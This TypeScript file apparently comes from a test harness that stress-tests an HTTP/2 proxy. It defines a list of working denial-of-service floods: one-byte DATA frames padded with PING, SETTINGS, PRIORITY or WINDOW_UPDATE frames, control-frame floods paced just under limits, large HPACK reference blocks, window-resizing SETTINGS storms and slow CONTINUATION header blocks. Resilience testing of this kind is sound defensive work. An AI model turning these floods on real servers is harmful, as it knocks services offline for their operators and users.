/** Attacks by frames that cost more to take than to send, as many as limits let pass: mostly by CPU. */
import { Flag, FrameType, Setting, uint32, writeFrame } from '../../support/frames.ts'
import { type Attack, Crowd, call, paced, type Target } from './attack.ts'
import { type AttackConnection, settings } from './attack-connection.ts'

const SILENT = call('Silent')
/** Bytes of one write. */
const CHUNK_BYTES = 65_536

/** A stream on which the frames of an attack are; `once` for each time that it may send. */
function streaming(target: Target, connections: number, pour: (connection: AttackConnection, id: number) => number) {
  const streams = new WeakMap<AttackConnection, number>()
  const strike = (connection: AttackConnection): void => {
    const id = streams.get(connection)
    if (id === undefined) return
    for (let sent = 1; sent > 0 && !connection.congested; ) {
      sent = pour(connection, id)
      target.count(sent)
    }
  }
  const begin = (connection: AttackConnection): void => {
    streams.set(connection, connection.request(SILENT, false))
    strike(connection)
  }
  return new Crowd(target, connections, {
    ready: begin,
    ended: connection => {
      if (!connection.gone) setImmediate(begin, connection)
    },
    room: strike,
  }).stop
}

/** DATA of one byte, each with the same frames behind it. */
function crumbs(name: string, behind: readonly Buffer[]): Attack {
  return {
    name,
    enough: 200_000,
    cpu: true,
    start(target, connections) {
      const chunks = new Map<number, Buffer>()
      const bytes = 10 + behind.reduce((sum, frame) => sum + frame.length, 0)
      const frames = Math.floor(CHUNK_BYTES / bytes)
      const chunkOf = (streamId: number): Buffer => {
        let chunk = chunks.get(streamId)
        if (chunk === undefined) {
          const data = writeFrame({ type: FrameType.DATA, flags: 0, streamId, payload: Buffer.from('a') })
          const unit = Buffer.concat([data, ...behind])
          chunk = Buffer.concat(new Array<Buffer>(frames).fill(unit))
          chunks.set(streamId, chunk)
        }
        return chunk
      }
      return streaming(target, connections, (connection, id) => {
        if (connection.roomOf(id) < frames) return 0
        connection.spend(id, frames)
        connection.send(chunkOf(id))
        return frames * (1 + behind.length)
      })
    },
  }
}

const PING = writeFrame({ type: FrameType.PING, flags: 0, streamId: 0, payload: Buffer.alloc(8) })
const SETTINGS = settings({ [Setting.MAX_CONCURRENT_STREAMS]: 100 })
const PRIORITY = writeFrame({ type: FrameType.PRIORITY, flags: 0, streamId: 1, payload: Buffer.alloc(5) })
const UNKNOWN = writeFrame({ type: 0xbb, flags: 0, streamId: 0, payload: Buffer.alloc(8) })
const UPDATE = writeFrame({ type: FrameType.WINDOW_UPDATE, flags: 0, streamId: 0, payload: uint32(1) })

/** One connection after another is at the proxy with a whole block of 200,000 fields of one byte each. */
const references: Attack = {
  name: 'blocks of 200,000 indexed references',
  enough: 60,
  cpu: true,
  start(target, connections) {
    const block = Buffer.alloc(200_000, 0x83)
    const strike = (connection: AttackConnection): void => {
      while (!connection.congested && connection.open.size < 8) {
        connection.request(block)
        target.count(1)
      }
    }
    return new Crowd(target, connections, { ready: strike, ended: strike, room: strike }).stop
  },
}

/** So many a second on each connection. */
function steadily(name: string, perSecond: number, frame: Buffer, enough: number): Attack {
  return {
    name,
    enough,
    start(target, connections) {
      const crowd = new Crowd(target, connections, {})
      return crowd.also(
        paced(perSecond, count => {
          const frames = Buffer.concat(new Array<Buffer>(count).fill(frame))
          for (const connection of crowd.connections) {
            if (connection.congested) continue
            connection.send(frames)
            target.count(count)
          }
        }),
      ).stop
    },
  }
}

/** A window changes for each of 1,000 streams, as often as SETTINGS may come; each earns its right by a byte of DATA. */
const movingWindows: Attack = {
  name: 'SETTINGS that move the windows of 900 streams, a byte of DATA for each',
  enough: 2_000,
  cpu: true,
  start(target, connections) {
    const frames = 50
    let value = 0
    const chunk = (streamId: number): Buffer => {
      const parts: Buffer[] = []
      for (let at = 0; at < frames; at++) {
        parts.push(writeFrame({ type: FrameType.DATA, flags: 0, streamId, payload: Buffer.from('a') }))
        parts.push(settings({ [Setting.INITIAL_WINDOW_SIZE]: 65_535 + (value++ % 2) }))
      }
      return Buffer.concat(parts)
    }
    const streams = new WeakMap<AttackConnection, number>()
    const strike = (connection: AttackConnection): void => {
      const id = streams.get(connection)
      if (id === undefined) return
      while (!connection.congested && connection.roomOf(id) >= frames) {
        connection.spend(id, frames)
        connection.send(chunk(id))
        target.count(frames)
      }
    }
    return new Crowd(target, connections, {
      ready: connection => {
        streams.set(connection, connection.request(SILENT, false))
        for (let at = 0; at < 900; at++) connection.request(SILENT)
        strike(connection)
      },
      room: strike,
    }).stop
  },
}

/** A header block of which a byte comes each second, so that it ends just in time; then the next. */
const slowBlocks: Attack = {
  name: 'header blocks that take nine seconds each, on 10 times as many connections',
  enough: 40,
  start(target, connections) {
    const at = new WeakMap<AttackConnection, { id: number; frames: number }>()
    const block = call('Answer')
    const most = 14
    const crowd = new Crowd(target, connections * 10, {
      ready: connection => void at.set(connection, { id: connection.newStreamId(), frames: 0 }),
    })
    return crowd.also(
      paced(1.6, () => {
        for (const connection of crowd.connections) {
          const place = at.get(connection)
          if (place === undefined) continue
          const last = place.frames === most
          const from = place.frames
          connection.send(
            writeFrame({
              type: from === 0 ? FrameType.HEADERS : FrameType.CONTINUATION,
              flags: last ? Flag.END_HEADERS : Flag.NONE,
              streamId: place.id,
              payload: block.subarray(from, last ? block.length : from + 1),
            }),
          )
          place.frames++
          target.count(1)
          if (last) at.set(connection, { id: connection.newStreamId(), frames: 0 })
        }
      }),
    ).stop
  },
}

export const FLOODS: readonly Attack[] = [
  crumbs('DATA of one byte', []),
  crumbs('DATA of one byte, and two PINGs for each', [PING, PING]),
  crumbs('DATA of one byte, and SETTINGS for each', [SETTINGS]),
  crumbs('DATA of one byte, and two of PRIORITY and of an unknown type for each', [
    PRIORITY,
    PRIORITY,
    UNKNOWN,
    UNKNOWN,
  ]),
  crumbs('DATA of one byte, and four WINDOW_UPDATEs for each', [UPDATE, UPDATE, UPDATE, UPDATE]),
  steadily('WINDOW_UPDATE just below the limit on each connection', 9_800, UPDATE, 8_000),
  steadily('PING just below the limit on each connection', 19, PING, 20),
  steadily('SETTINGS just below the limit on each connection', 9, SETTINGS, 10),
  references,
  movingWindows,
  slowBlocks,
]
